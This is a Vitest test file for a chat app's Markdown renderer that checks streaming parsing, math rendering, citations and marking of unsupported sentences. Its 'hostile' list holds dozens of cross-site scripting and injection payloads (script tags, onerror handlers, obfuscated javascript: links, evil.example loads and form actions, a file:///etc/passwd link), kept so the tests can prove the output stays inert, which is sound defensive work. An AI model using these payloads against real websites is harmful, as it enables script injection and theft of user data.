import { MantineProvider } from '@mantine/core';
import i18next from 'i18next';
import { renderToStaticMarkup } from 'react-dom/server';
import { I18nextProvider, initReactI18next } from 'react-i18next';
import { describe, expect, it } from 'vitest';
import { type Connection, ConnectionContext } from '../../client/index.ts';
import { CitationContext } from './CitationMark.tsx';
import { Markdown } from './Markdown.tsx';
import { createBlockParser } from './parseBlocks.ts';

const messages = i18next.createInstance();
void messages
  .use(initReactI18next)
  .init({ lng: 'en', resources: { en: { chat: {}, common: {} } }, initAsync: false });

const citation = (n: number) => ({
  n,
  documentId: 'd',
  chunkId: 'c',
  path: '/files/report.pdf',
  title: null,
  quote: 'words',
  locator: { kind: 'page' as const, part: 0, start: 0, end: 5, page: 3, boxes: [] },
});

function html(text: string, props: Partial<Parameters<typeof Markdown>[0]> = {}): string {
  const citations = (props.citations ?? []).map(citation);
  return renderToStaticMarkup(
    <I18nextProvider i18n={messages}>
      <ConnectionContext value={{ host: { shell: null } } as unknown as Connection}>
        <MantineProvider>
          <CitationContext value={{ citations, onCite: () => undefined }}>
            <Markdown text={text} {...props} />
          </CitationContext>
        </MantineProvider>
      </ConnectionContext>
    </I18nextProvider>,
  )
    .replace(/^<style[\s\S]*?<\/style>/, '')
    .replaceAll(/<style data-mantine[\s\S]*?<\/style>/g, '');
}

const words = (markup: string) => markup.replaceAll(/<[^>]*>/g, '').replaceAll('&amp;', '&');

/** What may be in what is rendered: nothing that runs, loads, styles, frames or names. */
function expectInert(markup: string, from: string): void {
  for (const [tag, name = ''] of markup.matchAll(/<([a-zA-Z][\w:-]*)((?:[^>"]|"[^"]*")*)>/g)) {
    expect(
      /^(script|style|img|svg|image|iframe|object|embed|video|audio|source|link|meta|base|form|foreignobject|use|animate|set|annotation-xml|maction|input|textarea|select|template|noscript|portal|frame|applet)$/i.test(
        name,
      ) && !isOwnIcon(tag, markup),
      `<${name}> out of ${from}`,
    ).toBe(false);
    const attributes = [...tag.matchAll(/\s([\w:-]+)(?:="([^"]*)")?/g)];
    for (const [, attribute = '', value = ''] of attributes) {
      expect(/^on/i.test(attribute), `${attribute} out of ${from}`).toBe(false);
      expect(
        /^(src|srcset|srcdoc|action|formaction|poster|background|ping|xlink:href|id|name|is)$/i.test(
          attribute,
        ),
        `${attribute} out of ${from}`,
      ).toBe(false);
      if (/^href$/i.test(attribute)) expect(value, from).toMatch(/^(https:\/\/|mailto:)/);
      if (/^style$/i.test(attribute)) expect(value, from).toMatch(/^--/);
    }
  }
}

/** The signs beside pictures and sentences are drawn by us. */
const isOwnIcon = (tag: string, markup: string) =>
  /^<svg [^>]*class="tabler-icon/.test(tag) && !/<svg (?![^>]*class="tabler-icon)/.test(markup);

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example"><input name=x><button>go</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<input autofocus onfocus=alert(1)>',
  '<p style="background:url(http://evil.example/p.png)">x</p>',
  '<span class="citation" data-n="1">1</span>',
  '<div id="root">x</div><a name="cookie">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](http://evil.example)',
  '[x](//evil.example/x)',
  '[x](/host/info)',
  '[x](#token=stolen)',
  '[x](adiuva://document/1)',
  '[x](https://user:pass@evil.example)',
  '[x](https://good.example@evil.example/)',
  '[x](blob:http://127.0.0.1/1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <javascript:alert(1)> "t"\n\n![x]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](http://evil.example/p.png)',
  '![x](https://evil.example/p.png?secret=1)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '![" onerror="alert(1)](x)',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '``` "><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{http://evil.example/p.png}$',
  '$\\htmlClass{x}{y}\\htmlId{root}{y}\\htmlStyle{position:fixed}{y}\\htmlData{a=b}{y}$',
  '$\\unicode{<img src=x onerror=alert(1)>}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\rule{9999em}{9999em}$$',
  '$\\hspace{-9999em}x$',
  '$\\raisebox{9999em}{x}$',
  '$\\color{url(http://evil.example)}x$',
  '$\\class{x}{y}\\style{position:fixed}{y}$',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |',
  '[^x]\n\n[^x]: <script>alert(1)</script>',
  '- [ ] <input type=image src=http://evil.example onerror=alert(1)>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  `${'['.repeat(500)}x${'](javascript:alert(1))'.repeat(500)}`,
  `${'> '.repeat(300)}<script>alert(1)</script>`,
];

describe('a text that means harm', () => {
  it.each(hostile)('runs and fetches nothing: %s', (text) => {
    expectInert(html(text), text);
    expectInert(html(text, { isStreaming: true }), text);
    expectInert(html(`- a\n  > ${text.replaceAll('\n', '\n  > ')}`), text);
  });

  it('shows markup as the text it is', () => {
    expect(words(html('before <b onclick="x()">bold</b> after'))).toBe(
      'before &lt;b onclick=&quot;x()&quot;&gt;bold&lt;/b&gt; after',
    );
  });

  it('keeps the words of a link that leads nowhere good, and shows pictures by theirs', () => {
    expect(html('[read me](javascript:alert(1))')).not.toContain('<a');
    expect(words(html('[read me](javascript:alert(1))'))).toBe('read me');
    const picture = html('![the plan](https://pictures.example/plan.png)');
    expect(picture).toContain('href="https://pictures.example/plan.png"');
    expect(words(picture)).toBe('the plan');
  });

  it('takes no citation from a text that only looks like one', () => {
    expect(html('See [7].', { citations: [1] })).toContain('See [7].');
    expect(html('See [1].', { citations: [1] })).toContain('aria-label="citation.label"');
  });

  it('ends in time for what is made to take long', () => {
    const began = performance.now();
    for (const text of [
      '$'.repeat(5000),
      '*a '.repeat(3000),
      '[a]('.repeat(3000),
      '`a'.repeat(3000),
      '\\('.repeat(3000),
    ]) {
      html(text);
      html(text, { isStreaming: true });
    }
    expect(performance.now() - began).toBeLessThan(8000);
  });
});

const everything = [
  '# A heading with `code` and **bold**',
  '',
  'Some *emphasis*, ~~struck~~ words, a [link](https://a.example/path_(x) "title") and [1][2].',
  'Prices: $5 and $10; math $a_1 + b^2$ and \\(x\\).',
  '',
  '\\[ \\frac{a}{b} \\]',
  '',
  '- one',
  '  - two **three',
  '    four**',
  '- [x] done',
  '',
  '1. first',
  '2. second',
  '',
  '| a | b |',
  '| --- | ---: |',
  '| 1 | `2` |',
  '',
  '> quoted',
  '> > twice',
  '',
  '```ts',
  'const a = "<b>" + `$` + 1;',
  '```',
  '',
  '$$',
  'x = \\sum_{i=1}^n i',
  '$$',
  '',
  'Setext',
  '---',
  '',
  'The end[^1]. <b>no</b> ![p](https://a.example/p.png) 한국어 문장입니다.',
  '',
  '[^1]: a note',
].join('\n');

describe('a text that grows', () => {
  it('can be cut anywhere, and ends as what it would have been at once', () => {
    const parser = createBlockParser();
    for (let end = 0; end <= everything.length; end += 1) {
      const text = everything.slice(0, end);
      const blocks = parser.parse(text, true);
      for (const [index, block] of blocks.entries())
        expect(block.start).toBeGreaterThanOrEqual(blocks[index - 1]?.start ?? 0);
      if (end % 3 === 0) expectInert(html(text, { isStreaming: true }), text);
    }
    const kinds = (isStreaming: boolean) =>
      parser.parse(everything, isStreaming).map(({ node, start }) => `${start} ${node.type}`);
    const whole = kinds(false);
    expect(kinds(true).filter((kind) => !kind.endsWith('footnoteDefinition'))).toEqual(
      whole.filter((kind) => !kind.endsWith('footnoteDefinition')),
    );
  });

  it('keeps the blocks that have ended', () => {
    const parser = createBlockParser();
    const [first] = parser.parse('One.\n\nTwo', true);
    const [same] = parser.parse('One.\n\nTwo is longer.\n\nThree', true);
    expect(same).toBe(first);
  });

  it.each([
    ['a **bo', 'a <strong>bo</strong>'],
    ['a **', 'a'],
    ['a **bold*', 'a <strong>bold</strong>'],
    ['an `x', 'an <code>x</code>'],
    ['a [link](https://a.exa', 'a link'],
    ['a [li', 'a li'],
    ['true [1', 'true'],
    ['text\n-', 'text'],
    ['text\n\n1', 'text'],
    ['snake_case', 'snake_case'],
    ['2 * 3', '2 * 3'],
    ['a *b **c', 'a <em>b <strong>c</strong></em>'],
  ])('shows %j without its open marks', (text, expected) => {
    const shown = html(text, { isStreaming: true });
    expect(shown.replaceAll(/<\/?(p|div)[^>]*>/g, '').trim()).toBe(expected);
  });

  it('shows numbers in brackets as marks from the first', () => {
    expect(html('True [1].', { isStreaming: true })).not.toContain('[1]');
  });
});

describe('math', () => {
  it.each([
    '$a^2$',
    '\\(a^2\\)',
    '$$a^2$$',
    '\\[a^2\\]',
    '\\[\na^2\n\\]',
    '$$\na^2\n$$',
    '```math\na^2\n```',
  ])('is drawn as MathML: %j', (text) => {
    const shown = html(text);
    expect(shown).toContain('<msup>');
    expect(shown.includes('display="block"')).toBe(!/^(\$[^$]|\\\()/.test(text));
  });

  it('is not made of money', () => {
    expect(words(html('It costs $5 with **fees** and $10 without.'))).toBe(
      'It costs $5 with fees and $10 without.',
    );
    expect(html('It costs $5 with **fees** and $10.')).toContain('<strong>fees</strong>');
  });

  it('stays code in code', () => {
    expect(words(html('`\\(a\\) $b$` and ```x $c$ ```'))).toBe('\\(a\\) $b$ and x $c$ ');
    expect(words(html('```tex\n\\(a\\) $b$\n```'))).toContain('\\(a\\) $b$');
  });

  it('that is wrong is shown as it was written', () => {
    expect(words(html('$\\frac{a$'))).toContain('\\frac{a');
  });
});

describe('sentences without support', () => {
  const marked = (text: string, sentence: string) => {
    const start = text.indexOf(sentence);
    const shown = html(text, { unsupported: [[start, start + sentence.length]], citations: [1] });
    return {
      shown,
      words: [...shown.matchAll(/<span class="[^"]*unsupported[^"]*">((?:(?!<\/span>)[\s\S])*)<\/span>/g)]
        .map(([, inner = '']) => words(inner))
        .filter((inner) => !inner.includes('unsupported.spoken'))
        .join(''),
    };
  };

  it.each([
    ['One. Two is here. Three.', 'Two is here.', 'Two is here.'],
    ['One. Two *is* `here`. Three.', 'Two *is* `here`.', 'Two is here.'],
    ['A &amp; B \\* C. Marked one. End.', 'Marked one.', 'Marked one.'],
    ['> Quoted text that\n> goes on. And more.\n> Last.', 'And more.', 'And more.'],
    ['- item one\n- item two is bad\n- three', 'item two is bad', 'item two is bad'],
    ['It costs $5. Then $6 more. End.', 'Then $6 more.', 'Then $6 more.'],
    ['한국어 문장. 둘째 문장입니다. 끝.', '둘째 문장입니다.', '둘째 문장입니다.'],
    ['| a | b |\n| - | - |\n| bad cell | ok |', 'bad cell', 'bad cell'],
  ])('are marked exactly: %j', (text, sentence, expected) => {
    const { words: found, shown } = marked(text, sentence);
    expect(found).toBe(expected);
    expect(shown).toContain('unsupported.spoken');
  });
});
